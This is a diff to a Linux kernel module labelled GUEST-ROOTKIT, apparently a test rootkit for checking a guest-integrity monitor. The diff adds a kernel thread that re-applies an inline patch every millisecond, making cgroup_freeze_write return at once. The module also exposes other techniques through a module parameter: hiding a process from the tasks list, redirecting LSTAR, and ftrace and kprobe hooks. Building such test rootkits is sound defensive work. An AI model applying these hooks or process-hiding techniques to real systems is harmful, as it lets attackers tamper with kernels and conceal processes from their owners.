@@ -15,6 +15,8 @@
  *   lstar   point IA32_LSTAR at a stub of its own (e); if the write is taken, LSTAR is put
  *           back at once (the stub is not mapped in the user page tables PTI switches
  *           from, so the guest could not survive a system call through it)
+ *   loop S  put the inline patch back every millisecond for S seconds from a kernel thread
+ *           (g: a hook re-applied while an operation runs)
  *   hide N  take process N off the tasks list (f): list_del_init under tasklist_lock, so its
  *           exit later unlinks nothing and the kernel stays sound; /proc (the pid IDR)
  *           still lists it, for_each_process and a tasks-list walk do not
@@ -34,7 +36,10 @@
 
 #include <linux/ftrace.h>
 #include <linux/kernel.h>
+#include <linux/delay.h>
+#include <linux/jiffies.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
@@ -245,20 +250,76 @@ static void attack_kprobe(void)
 		  (unsigned long)kprobe_freeze.addr, (unsigned long)kprobe_kill.addr);
 }
 
-static void attack_inline(void)
-{
-	u8 *fn = (u8 *)lookup("cgroup_freeze_write");
-	static const u8 endbr64[4] = {0xf3, 0x0f, 0x1e, 0xfa};
-	static const u8 ret_nbytes[4] = {0x48, 0x89, 0xd0, 0xc3}; /* mov rax, rdx; ret */
-	u8 *at = fn + (memcmp(fn, endbr64, 4) == 0 ? 4 : 0);
-	void *mapping;
-	u8 *alias = alias_of(at, &mapping);
-	int rc = alias ? copy_safe(alias, ret_nbytes, sizeof(ret_nbytes)) : -ENOMEM;
+static const u8 ret_nbytes[4] = {0x48, 0x89, 0xd0, 0xc3}; /* mov rax, rdx; ret */
 
+/* The patch of cgroup_freeze_write (after its ENDBR) through an alias of its page: 0 or an
+ * error; *at: where. */
+static u8 *freeze_at(void)
+{
+	static const u8 endbr64[4] = {0xf3, 0x0f, 0x1e, 0xfa};
+	u8 *fn = (u8 *)lookup("cgroup_freeze_write");
+
+	return fn + (memcmp(fn, endbr64, 4) == 0 ? 4 : 0);
+}
+
+static int patch_freeze(u8 **at)
+{
+	void *mapping;
+	u8 *alias;
+	int rc;
+
+	*at = freeze_at();
+	alias = alias_of(*at, &mapping);
+	rc = alias ? copy_safe(alias, ret_nbytes, sizeof(ret_nbytes)) : -ENOMEM;
 	if (mapping)
 		vunmap(mapping);
+	return rc;
+}
+
+static void attack_inline(void)
+{
+	u8 *at;
+	int rc = patch_freeze(&at);
+
 	pr_notice("GUEST-ROOTKIT inline write=%d at=0x%lx patched=%d\n", rc, (unsigned long)at,
 		  memcmp(at, ret_nbytes, sizeof(ret_nbytes)) == 0);
+}
+
+/* (g): the inline patch put back every millisecond for SECS seconds, by a kernel thread,
+ * whenever it is not there: an operation meanwhile must not be reported done on a hooked
+ * kernel. "GUEST-ROOTKIT loop-done rewrites=N" in the kernel log at its end. */
+static unsigned long loop_until;
+
+static int loop_fn(void *data)
+{
+	unsigned long rewrites = 0, looks = 0;
+	u8 *at;
+
+	while (!kthread_should_stop() && time_before(jiffies, loop_until)) {
+		looks++;
+		if (memcmp(freeze_at(), ret_nbytes, sizeof(ret_nbytes)) != 0 &&
+		    patch_freeze(&at) == 0)
+			rewrites++; /* it had been put back */
+		usleep_range(1000, 2000);
+	}
+	pr_notice("GUEST-ROOTKIT loop-done rewrites=%lu looks=%lu\n", rewrites, looks);
+	return 0;
+}
+
+static void attack_loop(const char *arg)
+{
+	struct task_struct *t = NULL;
+	int secs, rc = kstrtoint(arg, 10, &secs);
+
+	if (rc == 0 && (secs <= 0 || secs > 600))
+		rc = -EINVAL;
+	if (rc == 0) {
+		loop_until = jiffies + (unsigned long)secs * HZ;
+		t = kthread_run(loop_fn, NULL, "rk-loop");
+		rc = IS_ERR(t) ? (int)PTR_ERR(t) : 0;
+	}
+	pr_notice("GUEST-ROOTKIT loop started=%d secs=%s pid=%d\n", rc == 0, arg,
+		  rc == 0 ? t->pid : 0);
 }
 
 static void attack_lstar(void)
@@ -311,6 +372,12 @@ static int run_set(const char *val, const struct kernel_param *kp)
 	size_t n = strcspn(val, "\n");
 	char arg[16];
 
+	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "loop ", 5)) {
+		memcpy(arg, val + 5, n - 5);
+		arg[n - 5] = '\0';
+		attack_loop(arg);
+		return 0;
+	}
 	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "hide ", 5)) {
 		memcpy(arg, val + 5, n - 5);
 		arg[n - 5] = '\0';
@@ -329,7 +396,7 @@ static int run_set(const char *val, const struct kernel_param *kp)
 
 static const struct kernel_param_ops run_ops = {.set = run_set};
 module_param_cb(run, &run_ops, NULL, 0200);
-MODULE_PARM_DESC(run, "the attack to run: wp, alias, ftrace, kprobe, inline, lstar, hide PID");
+MODULE_PARM_DESC(run, "the attack to run: wp, alias, ftrace, kprobe, inline, lstar, loop SECS, hide PID");
 
 static int __init rootkit_init(void)
 {
